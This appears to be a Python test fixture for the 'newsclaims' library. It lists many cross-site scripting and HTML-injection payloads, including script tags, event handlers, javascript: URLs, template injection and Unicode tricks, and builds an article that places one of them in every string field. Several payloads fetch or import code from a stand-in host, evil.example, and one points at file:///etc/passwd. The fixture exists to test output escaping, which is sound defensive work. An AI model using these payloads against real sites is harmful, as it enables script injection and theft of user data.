"""What hostile strings try on a page, and an article that holds one in every string field there is."""

import re

import attrs

import newsclaims as nc

_CALLS = ("alert(1)", "alert`1`", "fetch('//evil.example')", "import('//evil.example/x.js')")
_TEMPLATES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "<!--<script>{}</script>-->",
    "--><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>",
    '" onmouseover={} x="',
    "' onfocus={} autofocus x='",
    "` onclick={} x=`",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java script:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
)
PAYLOADS: tuple[str, ...] = (
    *dict.fromkeys(template.format(call) for template in _TEMPLATES for call in _CALLS),
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "url(//evil.example/x)",
    "@import url(//evil.example/x.css);",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>",
    "<object data=//evil.example/x>",
    "<embed src=//evil.example/x>",
    "<img src=//evil.example/x.png>",
    "<image href=//evil.example/x>",
    "<svg><use href=//evil.example/x#y></svg>",
    "<video poster=//evil.example/x>",
    "<audio src=//evil.example/x autoplay>",
    "<a href=javascript:alert(1) id=v1-c1>x</a>",
    "<a ping=//evil.example/ href=#>x</a>",
    "<table background=//evil.example/x>",
    "<template><script>alert(1)</script></template>",
    "</article></main></div><h1>taken over</h1>",
    "</li></ol></aside>",
    "</select><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example/x.css'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&amp;&quot;&#39;&nbsp;&#0;&#13;&NotAnEntity;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "%s %d %(x)s {} {0.__class__}",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066\u202etxt.exe",
    'http://evil.example/"onclick=alert(1)//',
    "https://evil.example/'><script>alert(1)</script>",
    "https:\\\\evil.example",
    "//evil.example/x",
    "http://[::1]/<svg/onload=alert(1)>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "#v1-c1",
    "v1-c1",
    "\x00<script>alert(1)</script>",
    "\x1b]0;taken over\x07",
    "\r\n\r\n<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "\ufffe\uffff\U0010ffff",
    "a" * 5_000 + "<script>alert(1)</script>",
    "<" * 3_000,
    "&" * 3_000,
    "\u0301" * 300,
    "constructor",
    "__proto__",
    "NUL",
)


def hostile(payload: str) -> nc.Article:
    """A valid article that holds a string in every field that can hold it."""
    line = re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]", "", payload) or "x"
    uri = "x:" + re.sub(r"\s", "", line)
    address = line if line.startswith("http") else f"https://example.org/{line}"
    text = f"{payload} says {payload}, perhaps.\n\n{payload}"
    article = nc.Article.from_text(text, id=line, language="en")
    size = len(payload)
    said = (article.span(size + 6, 2 * size + 6),)
    whole = (article.span(0, size),)
    when = nc.When(value="2024", anchor=whole)
    source = nc.Source(
        id="s1", name=line, kind="group", naming="unnamed", description=payload, same_as=(uri, uri + "2")
    )
    other = nc.Source(id="s2", description=payload, affiliation_id="s1")
    attribution = nc.Attribution(
        id="a1",
        source_ids=("s1", "s2"),
        via_ids=("s1",),
        source=whole,
        cue=(article.span(size + 1, size + 5),),
        hedge=said,
        certainty="possible",
        polarity="negative",
        time=when,
        url=address,
    )
    inner = nc.Attribution(id="a2", source_ids=("s2",), within_id="c1", source=whole, url=line)
    claims = (
        nc.Claim(
            id="c1",
            content=said,
            text=payload,
            types=(line, line + "2"),
            same_as=(uri,),
            time=when,
            attributions=(attribution,),
        ),
        nc.Claim(id="c2", content=said, attributions=(inner,)),
        nc.Claim(id="c3", text=payload),
    )
    review = nc.Review(
        id="v1",
        claim_id="c3",
        label=line,
        verdict="refuted",
        explanation=payload,
        url=address,
        author_id="s1",
        rating_value=1,
    )
    return attrs.evolve(
        article,
        title=line,
        publisher=line,
        url=address,
        byline=(line,),
        sections=(nc.Section(id="k1", role="headline", start=0, end=size + 1, heading=article.span(0, size)),),
        sources=(source, other),
        claims=claims,
        relations=(nc.Relation(id="r1", type="supports", from_id="c1", to_id="c3", cue=whole, drawn_by_ids=("s1",)),),
        reviews=(review, attrs.evolve(review, id="v2", url=line)),
        notes=(
            nc.Note(id="n1", kind=line, anchor=whole, text=payload),
            nc.Note(id="n2", kind=line, about_id="c1", text=payload),
        ),
        provenance=nc.Provenance(agent=line, kind="human", guideline=uri),
        extensions={"other": {"payload": payload}},
    )
